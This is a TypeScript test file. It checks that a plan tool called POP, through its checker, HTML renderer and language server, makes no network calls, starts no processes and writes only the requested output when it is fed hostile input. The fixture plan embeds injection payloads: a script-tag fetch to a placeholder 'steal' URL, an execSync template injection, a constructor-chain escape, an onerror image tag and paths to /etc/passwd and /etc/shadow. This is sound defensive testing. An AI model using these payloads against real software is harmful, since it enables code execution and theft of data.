/**
 * What POP does to the machine, observed from inside its own processes: a preloaded module records every
 * network connection, name lookup, child process and file write. Checking hostile plans does none of them;
 * rendering writes only the requested file (through a temporary file beside it); the language server,
 * given hostile documents and asked for everything, makes no connection and starts no process.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { POP } from '../support/paths.js';
import { LspSession } from '../protocol/lsp-session.js';
import { EXAMPLES, HOSTILE_FRAGMENTS, stringLiteral } from './arbitraries.js';

const OBSERVER = path.join(path.dirname(fileURLToPath(import.meta.url)), 'fixtures/observe-side-effects.cjs');

/** A plan whose every text (NUL aside: a file with NUL bytes is refused as binary, which its own test covers) is an attempt to get out: markup, template syntax, URLs, paths. */
const HOSTILE_PLAN = `plan ${stringLiteral('<script>fetch("https://example.invalid/steal")</script>')} {
    employee ${stringLiteral('${require("child_process").execSync("touch /tmp/pwned")}')}
    manager ${stringLiteral('{{constructor.constructor("return process")().exit()}}')}
    goal g ${stringLiteral('<img src="https://example.invalid/x.png" onerror="alert(1)">')} {
        specific ${stringLiteral(HOSTILE_FRAGMENTS.filter(f => f !== '\u0000').join(' '))}
        method ${stringLiteral('file:///etc/passwd ../../../../etc/shadow \\\\server\\share')}
        action course ${stringLiteral('<link rel=stylesheet href=//example.invalid/x.css>')} { provider ${stringLiteral('<iframe src=//example.invalid>')} }
    }
}
`;

interface Effect { kind: 'network' | 'process' | 'write'; detail: string }

let work: string;
beforeAll(() => {
    work = mkdtempSync(path.join(tmpdir(), 'pop-effects-'));
    writeFileSync(path.join(work, 'hostile.pop'), HOSTILE_PLAN);
    EXAMPLES.forEach((e, i) => writeFileSync(path.join(work, `example-${i}.pop`), e.text));
});
afterAll(() => rmSync(work, { recursive: true, force: true }));

function observed(logFile: string): Effect[] {
    return existsSync(logFile) ? readFileSync(logFile, 'utf8').trim().split('\n').filter(Boolean).map(line => JSON.parse(line) as Effect) : [];
}

function popObserved(args: string[], name: string): { status: number | null; effects: Effect[]; stderr: string } {
    const logFile = path.join(tmpdir(), `pop-effects-${process.pid}-${name}.log`);
    rmSync(logFile, { force: true });
    const result = spawnSync(process.execPath, ['--require', OBSERVER, POP, ...args], {
        cwd: work, encoding: 'utf8', timeout: 60_000,
        env: { ...process.env, POP_OBSERVE_LOG: logFile, LANG: 'en_US.UTF-8', NO_COLOR: '1' },
    });
    const effects = observed(logFile);
    rmSync(logFile, { force: true });
    return { status: result.status, effects, stderr: result.stderr };
}

describe('POP touches nothing but its output', () => {
    test('the observer really records (a deliberate write is seen)', () => {
        const logFile = path.join(tmpdir(), `pop-effects-${process.pid}-self.log`);
        spawnSync(process.execPath, ['--require', OBSERVER, '-e', `require('node:fs').writeFileSync(${JSON.stringify(path.join(work, 'probe.txt'))}, 'x'); require('node:dns').lookup('example.invalid', () => {})`], {
            env: { ...process.env, POP_OBSERVE_LOG: logFile }, timeout: 30_000,
        });
        expect(observed(logFile).map(e => e.kind).sort()).toEqual(['network', 'write']);
        rmSync(logFile, { force: true });
    });

    test('pop check on hostile plans and the examples: no network, no process, no write', () => {
        const { status, effects, stderr } = popObserved(['check', '.', '--format', 'json'], 'check');
        expect([0, 1], stderr).toContain(status);
        expect(effects).toEqual([]);
    });

    test('pop render writes only the requested file, through a temporary file beside it', () => {
        const { status, effects, stderr } = popObserved(['render', 'hostile.pop', '-o', 'out.html'], 'render');
        expect(status, stderr).toBe(0);
        expect(effects.filter(e => e.kind !== 'write')).toEqual([]);
        const touched = effects.flatMap(e => e.detail.split(' -> ').map(part => part.replace(/^\S+ /, '')));
        const outside = touched.filter(file => !/(^|\/)(out\.html|\.out\.html\.[\w-]+\.tmp)( |$)/.test(path.basename(file.split(' ')[0])));
        expect(outside, JSON.stringify(effects)).toEqual([]);
        expect(effects.some(e => /^renameSync \S+\.tmp -> \S+\/out\.html$/.test(e.detail)), JSON.stringify(effects)).toBe(true);
        expect(readFileSync(path.join(work, 'out.html'), 'utf8')).not.toMatch(/<script>fetch|<img src="https/);
    });

    test('the language server, given hostile plans and every request, connects nowhere and starts no process', async () => {
        const logFile = path.join(tmpdir(), `pop-effects-${process.pid}-server.log`);
        rmSync(logFile, { force: true });
        const previous = { NODE_OPTIONS: process.env.NODE_OPTIONS, POP_OBSERVE_LOG: process.env.POP_OBSERVE_LOG };
        process.env.NODE_OPTIONS = `${previous.NODE_OPTIONS ?? ''} --require ${OBSERVER}`.trim();
        process.env.POP_OBSERVE_LOG = logFile;
        let session: LspSession;
        try {
            session = new LspSession({ today: '2027-06-01' });
        } finally {
            for (const [key, value] of Object.entries(previous)) {
                if (value === undefined) delete process.env[key];
                else process.env[key] = value;
            }
        }
        try {
            await session.initialize();
            const uri = 'file:///effects/hostile.pop';
            await session.open(uri, HOSTILE_PLAN);
            await session.diagnosticsWhere(uri, () => true);
            const textDocument = { uri };
            const position = { line: 3, character: 6 };
            await session.connection.sendRequest('textDocument/hover', { textDocument, position });
            await session.connection.sendRequest('textDocument/completion', { textDocument, position });
            await session.connection.sendRequest('textDocument/documentSymbol', { textDocument });
            await session.connection.sendRequest('textDocument/formatting', { textDocument, options: { tabSize: 4, insertSpaces: true } });
            await session.connection.sendRequest('textDocument/codeLens', { textDocument });
            await session.connection.sendRequest('pop/render', { uri, preview: true });
            await session.connection.sendRequest('pop/summary', { uri });
        } finally {
            await session.close();
        }
        const effects = observed(logFile);
        rmSync(logFile, { force: true });
        expect(effects.filter(e => e.kind !== 'write')).toEqual([]);
        expect(effects.filter(e => e.kind === 'write')).toEqual([]);
    }, 60_000);
});
